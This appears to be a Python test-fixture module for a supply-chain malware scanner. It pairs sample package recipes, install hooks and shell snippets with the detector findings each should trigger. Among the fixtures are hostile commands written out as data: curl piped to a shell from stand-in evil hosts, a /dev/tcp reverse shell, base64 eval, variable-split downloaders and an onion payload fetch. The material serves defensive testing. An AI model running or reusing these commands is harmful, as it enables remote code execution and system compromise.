"""Small packages and texts with what is to be found in them, for queries and tests."""

from __future__ import annotations

import random
import string
from dataclasses import dataclass, field

DAY = 86400
NOW = 1_700_000_000
_noise = random.Random(7)
NOISE = "\n".join("".join(_noise.choices(string.ascii_letters + string.digits + string.punctuation.replace("`", "").replace("$", ""), k=60)) for _ in range(8))
RECIPE = (
    "pkgname=orchid\npkgver=2.0\npkgrel=1\narch=('any')\nurl=\"https://github.com/fern/orchid\"\nsource=(\"$pkgname.tar.gz::https://github.com/fern/orchid/archive/v2.0.tar.gz\")\n"
    f"sha256sums=('{'1f' * 32}')\nbuild() {{\n  cd \"$pkgname\"\n  make\n}}\npackage() {{\n  install -Dm755 orchid \"$pkgdir/usr/bin/orchid\"\n}}\n"
)


@dataclass
class Meta:
    name: str = "orchid"
    url: str | None = "https://github.com/fern/orchid"
    votes: int = 50
    popularity: float = 3.0
    out_of_date: int = 0
    maintainer: str | None = "fern"
    submitter: str | None = "fern"
    first_submitted: int = NOW - 400 * DAY
    license: tuple[str, ...] = ("MIT",)

    def row(self) -> tuple:
        return self.name, self.url, self.votes, self.popularity, self.out_of_date, self.maintainer, self.submitter, self.first_submitted, list(self.license), []


@dataclass
class Sample:
    """A package; ``found`` are the ids and classes (evidence, context, trigger) of its findings in order, ``verdict`` its path."""

    case: str
    found: list[tuple[str, str]]
    verdict: str = ""
    name: str = "orchid"
    ecosystem: str = "aur"
    recipe: str | None = None
    hooks: str | None = None
    prior: str | None = None
    executes: bool | None = None
    meta: Meta | None = None
    off: tuple[str, ...] = ()
    log: tuple[tuple[str, int, str], ...] = ()  # author, time, diff
    others: tuple[int, ...] = ()  # when the maintainer's packages were submitted
    stars: int | None = None
    gone: bool = False
    comments: tuple[str, ...] = field(default_factory=tuple)

    def row(self) -> tuple:
        capabilities = {x: False for x in self.off} if self.off else None
        return (
            self.name, self.ecosystem, capabilities, self.meta.row() if self.meta else None, self.recipe, self.hooks, self.prior, self.executes, [(a, f"{a}@x.io", t, d) for a, t, d in self.log],
            [(f"p{k}", t) for k, t in enumerate(self.others)], self.stars, self.gone, list(self.comments),
        )


E_, C, T = "evidence", "context", "trigger"

PACKAGES = [
    Sample("an honest recipe", [], recipe=RECIPE, meta=Meta()),
    Sample("nothing at all", [], recipe=None),
    Sample("a downloader in a shell", [("P-CURL-PIPE", E_), ("P-URL-SHORTENER", C)][:1], "evidence", recipe="prepare_it() {\n  curl -s https://host.evil.io/x | bash\n}"),
    Sample("the same in a comment", [], recipe="# curl -s https://host.evil.io/x | bash\n"),
    Sample("a reverse shell", [("P-REVSHELL-DEVTCP", E_)], "evidence", recipe="exec 5<>/dev/tcp/45.67.89.10/4444"),
    Sample("a decoded command", [("P-EVAL-BASE64", E_), ("P-BASE64", E_), ("P-EVAL-VAR", E_)], "evidence", recipe="eval $(echo abc | base64 -d)"),
    Sample("a hook that fetches", [("P-INSTALL-CURL", E_), ("P-INSTALL-PIPE-SHELL", E_), ("PHP-COMPOSER-CURL-PIPE", E_), ("DART-HOOK-CURL-PIPE", E_)], "evidence", hooks="post_install() {\n  curl -s https://host.evil.io/x | sh\n}"),
    Sample("the same with hooks switched off", [], hooks="post_install() {\n  curl -s https://host.evil.io/x | sh\n}", off=("install-script",)),
    Sample("a command in two variables", [("SA-VAR-CONCAT-EXEC", E_)], "evidence", recipe="a=cu\nb=rl\n$a$b http://host.evil.io | bash"),
    Sample("the same with shell analysis switched off", [], recipe="a=cu\nb=rl\n$a$b http://host.evil.io | bash", off=("shell-obfuscation",)),
    Sample("a name one letter off", [("B-TYPOSQUAT", E_), ("M-VOTES-ZERO", C), ("M-POP-ZERO", C), ("M-NO-MAINTAINER", C), ("M-NO-URL", C), ("M-NO-LICENSE", C)], "evidence", name="pary", meta=Meta("pary", None, 0, 0.0, maintainer=None, submitter=None, license=())),
    Sample("a brand's name", [("B-NAME-IMPERSONATE", E_), ("M-VOTES-LOW", C), ("M-NO-URL", C)], "evidence", name="firefox-patched-bin", meta=Meta("firefox-patched-bin", None, 4)),
    Sample("no reputation", [("M-VOTES-ZERO", C), ("M-POP-ZERO", C), ("M-NO-MAINTAINER", C), ("M-NO-URL", C), ("M-NO-LICENSE", C), ("M-OUT-OF-DATE", C)], recipe=RECIPE, meta=Meta("orchid", None, 0, 0.0, 1, None, None, license=())),
    Sample("a hidden service", [("P-ONION-C2", E_)], "evidence", ecosystem="npm", recipe="get http://abcdefghij234567.onion/payload"),
    Sample("the same with its detector off", [], ecosystem="npm", recipe="get http://abcdefghij234567.onion/payload", off=("onion-c2",)),
    Sample("hosts of two scripts and in punycode", [("P-IDN-PUNYCODE-HOST", C), ("P-HOMOGRAPH-MIXED-SCRIPT", E_)], "evidence", recipe="see https://xn--e1afmkfd.io/a and https://gіthub.io/b"),
    Sample("checksums that do not fit", [("P-CHECKSUM-MISMATCH", C)], recipe="pkgname=x\nsource=('https://a.evil.io/1.tgz' 'https://a.evil.io/2.tgz')\nsha256sums=('" + "ab" * 32 + "')\n"),
    Sample("skipped weak checksums", [("P-SKIP-ALL", C), ("P-WEAK-CHECKSUMS", C)], recipe="pkgname=x\nsource=('https://a.evil.io/1.tgz')\nmd5sums=('SKIP')\n"),
    Sample("no checksums, without encryption", [("P-HTTP-SOURCE", C), ("P-NO-CHECKSUMS", C)], recipe="pkgname=x\nsource=('http://a.evil.io/1.tgz')\n"),
    Sample("binaries from elsewhere", [("B-BIN-DOMAIN-MISMATCH", E_)], "evidence", name="orchid-bin", recipe="pkgname=orchid-bin\nsource=('https://files.evil.io/1.tgz')\nsha256sums=('" + "ab" * 32 + "')\n", meta=Meta("orchid-bin", "https://orchid.dev")),
    Sample("a revision that strikes", [("P-CURL-PIPE", E_), ("P-NO-CHECKSUMS", C), ("T-DIFF-NEW-SUSPICIOUS", E_), ("T-DIFF-CHECKSUM-REMOVED", E_), ("T-DIFF-SOURCE-DOMAIN-CHANGED", E_), ("T-DIFF-MAJOR-REWRITE", C)], "evidence",
           prior=RECIPE, recipe="pkgname=orchid\nsource=(\"https://cdn.evil.io/orchid.tgz\")\nprepare() {\n  curl https://cdn.evil.io/x | sh\n}\n"),
    Sample("an adopted package with a new author", [("B-SUBMITTER-CHANGED", C), ("B-ORPHAN-TAKEOVER", E_), ("T-MALICIOUS-DIFF", E_), ("T-AUTHOR-CHANGE", C)], "evidence", meta=Meta(maintainer="mallory", submitter="fern"), log=(("mallory", NOW - DAY, "+ wget https://a.evil.io/x"), ("fern", NOW - 300 * DAY, "+ first"))),
    Sample("one young commit", [("T-SINGLE-COMMIT", C), ("T-NEW-PACKAGE", C), ("B-MAINTAINER-NEW", C)], meta=Meta(first_submitted=NOW - 3 * DAY), log=(("fern", NOW - 3 * DAY, "+ first"),), others=(NOW - 3 * DAY,)),
    Sample("many packages at once", [("B-MAINTAINER-BATCH", C), ("M-GITHUB-STARS-LOW", C), ("M-COMMENTS-SECURITY", C)], meta=Meta(), others=(NOW - 10, NOW - DAY, NOW - 2 * DAY), stars=3, comments=("nice", "Is this MALWARE?")),
    Sample("a repository that is gone", [("B-MAINTAINER-SINGLE", C), ("M-GITHUB-NOT-FOUND", C)], meta=Meta(), others=(NOW - 400 * DAY,), gone=True, stars=0),
    Sample("a noisy document and a known bad owner", [("SA-HIGH-ENTROPY-HEREDOC", T)], "payload+identity", recipe=f"cat > blob <<'END'\n{NOISE}\nEND\n", meta=Meta(maintainer="mallory", submitter="mallory")),
    Sample("a noisy document alone", [("SA-HIGH-ENTROPY-HEREDOC", T)], recipe=f"cat > blob <<'END'\n{NOISE}\nEND\n"),
    Sample("a noisy document in a hook", [("IS-SA-HIGH-ENTROPY-HEREDOC", T)], hooks=f"cat > blob <<'END'\n{NOISE}\nEND\n", meta=Meta(maintainer="mallory", submitter="mallory")),
    Sample("a hook for all gems", [("GEM-GLOBAL-INSTALL-HOOK", E_)], "evidence", ecosystem="rubygems", recipe="Gem.post_install_hooks << proc { |x| puts x }"),
    Sample("a package.json", [], ecosystem="npm", recipe='{"name": "my-app", "homepage": "http://my-app.evil.io", "scripts": {"compile": "node -e 1"}}'),
]

#: Scripts and the shell findings in them.
SCRIPTS: list[tuple[str, list[tuple[str, str]]]] = [
    ("a=cu; b=rl\n$a$b http://h.evil.io | sh", [("SA-VAR-CONCAT-EXEC", E_)]),
    ("a=cu\nb=rl\nx=$(${a}${b} http://h.evil.io)", [("SA-VAR-CONCAT-CMD", E_)]),
    ("a=ne\nb=tcat\nc=wg\nd=et\n$c$d -q x\n$c$d x | bash", [("SA-VAR-CONCAT-CMD", E_), ("SA-VAR-CONCAT-EXEC", E_)]),
    ("dl=curl\n$dl http://h.evil.io", [("SA-INDIRECT-EXEC", E_)]),
    ("dl=curl\necho $dl", []),
    ("b=bash\na=wget\ntrue && ${b} x", [("SA-INDIRECT-EXEC", E_)]),
    ("$(printf '\\x63')$(printf '\\x75')$(echo -e '\\x72')x", [("SA-CHARBYCHAR-CONSTRUCT", E_)]),
    ("$(printf '\\x63')$(printf '\\x75')", []),
    ("data=" + "0f" * 70, [("SA-DATA-BLOB-HEX", C)]),
    ("sha512sums=('" + "0f" * 70 + "'\n'" + "0f" * 70 + "')\n", []),
    ("blob='" + "QUJD" * 30 + "=='", [("SA-DATA-BLOB-BASE64", C)]),
    ("blob='" + "QUJD" * 30 + "'\nother=" + "ab" * 70 + "\nmore=" + "QUJD" * 40, [("SA-DATA-BLOB-BASE64", C), ("SA-DATA-BLOB-HEX", C)]),
    (f"cat <<EOF\n{NOISE}\nEOF", [("SA-HIGH-ENTROPY-HEREDOC", T)]),
    (f"cat <<-'EOF'\n{NOISE}", [("SA-HIGH-ENTROPY-HEREDOC", T)]),
    ("cat <<EOF\n" + "plain words here\n" * 40 + "EOF", []),
    (f"cat <<A\nfew\nA\ncat <<B\n{NOISE}\nB\n", [("SA-HIGH-ENTROPY-HEREDOC", T)]),
    ("curl -o tool https://h.evil.io/tool\nchmod +x tool\n./tool", [("SA-BINARY-DOWNLOAD-NOCOMPILE", E_)]),
    ("curl -o src https://h.evil.io/src\nchmod +x configure\n./configure && make", []),
    ("pkgname=curl\n$pkgname x", []),
    ("", []),
]

#: Lines with a bad address, host or url, and the (type, value) that are found; the set is ``BAD``.
BAD = [("domain", "evil-malware.io"), ("ipv4", "185.100.157.127"), ("ipv4", "4.13.0.92"), ("url", "http://evil-malware.io/payload"), ("ipv6", "2a03:b0c0:0:0::ff"), ("domain", "api.model-host.io")]
LINES: list[tuple[str, list[tuple[str, str]]]] = [
    ("fetch http://evil-malware.io/payload now", [("url", "http://evil-malware.io/payload"), ("domain", "evil-malware.io")]),
    ("fetch HTTP://Evil-Malware.io:80/other", [("domain", "Evil-Malware.io")]),
    ("host evil-malware.io.", [("domain", "evil-malware.io")]),
    ("host notevil-malware.io and sub.evil-malware.io", []),
    ("connect to 185.100.157.127 now", [("ipv4", "185.100.157.127")]),
    ("tcp://185.100.157.127:4444 (185.100.157.127)", [("ipv4", "185.100.157.127")]),
    ("translate(-185.100.157.127, 4)", []),
    ("version 185.100.157.127.8 released", []),
    ("range 185.100.157.127-200", []),
    ("Agent/185.100.157.127", []),
    ("GET http://185.100.157.127/x", [("ipv4", "185.100.157.127")]),
    ('  "opencv-python>=4.13.0.92",', []),
    ("numpy ~= 4.13.0.92", []),
    ("pinned to v4.13.0.92", []),
    ("rev4.13.0.92 SERVER=4.13.0.92", [("ipv4", "4.13.0.92")]),
    ("wanted >4.13.0.92", []),
    ('<path d="M1 4.13.0.92 2z"/>', []),
    ('<path id="4.13.0.92"/>', [("ipv4", "4.13.0.92")]),
    ('"<path d=\\"M1 4.13.0.92 2z\\"/>"', []),
    ("bind 2A03:B0C0::FF port", [("ipv6", "2A03:B0C0::FF")]),
    ("mapped ::ffff:185.100.157.127", [("ipv4", "185.100.157.127")]),
    ("04.13.0.92 and 4.13.0.092", []),
    ("evil-malware.io EVIL-malware.io", [("domain", "evil-malware.io")]),
    ("", []),
]

PATHS = [
    ("src/app.js", "keep"), ("dist/app.js.map", "suppress"), ("dist/app.js", "demote"), ("lib/vendor.min.js", "demote"), ("tests/data.txt", "demote"), ("a\\Test\\b.js", "demote"), ("pkg/x_test.go", "demote"), ("conftest.py", "demote"),
    ("latest/x.py", "keep"), ("examples/run.sh", "demote"), ("a.spec.ts", "demote"), ("README.md", "keep"), ("dist.txt", "keep"), ("ui/__snapshots__/x.snap", "demote"),
]
